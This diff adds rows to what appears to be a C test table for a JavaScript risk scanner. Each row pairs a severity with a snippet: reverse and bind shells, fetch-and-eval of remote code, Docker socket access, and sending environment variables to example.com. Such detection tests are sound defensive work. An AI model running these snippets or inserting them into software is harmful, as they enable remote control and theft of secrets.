@@ -30,6 +30,10 @@ static const struct { const char *name; int level; const char *code; } row[] = {
 	{ "a shell on a connection", BLOCKED, "const c = require('net').connect(1, 'example.com'), sh = require('child_process').spawn('/bin/sh');\nc.pipe(sh.stdin); sh.stdout.pipe(c);\n" },
 	{ "a shell for whoever connects", BLOCKED, "require('net').createServer(c => { const sh = require('child_process').spawn('bash', ['-i']); c.on('data', d => sh.stdin.write(d)); }).listen(4000);\n" },
 	{ "a console for whoever connects", BLOCKED, "require('net').createServer(c => require('repl').start({ input: c, output: c })).listen(4000);\n" },
+	{ "a promise of one's own", BLOCKED, "const get = u => new Promise(done => require('https').get(u, r => { let b = ''; r.on('data', d => b += d); r.on('end', () => done(b)); }));\nget('https://example.com').then(t => eval(t));\n" },
+	{ "a handler set as a property", BLOCKED, "const s = new WebSocket('wss://example.com');\ns.onmessage = e => eval(e.data);\n" },
+	{ "awaiting as compilers write it", BLOCKED, "function* f() { const r = yield fetch('https://example.com'); eval(r); }\n" },
+	{ "a socket among the options", BLOCKED, "require('http').request({ socketPath: '/var/run/docker.sock', path: '/x' }).end();\n" },
 	/* what is sent */
 	{ "the environment", HIGH, "const r = require('https').request({ host: 'example.com', method: 'POST' });\nr.end(JSON.stringify({ ...process.env }));\n" },
 	{ "one variable as a token", MEDIUM, "fetch('https://example.com', { headers: { authorization: process.env.TOKEN } });\n" },
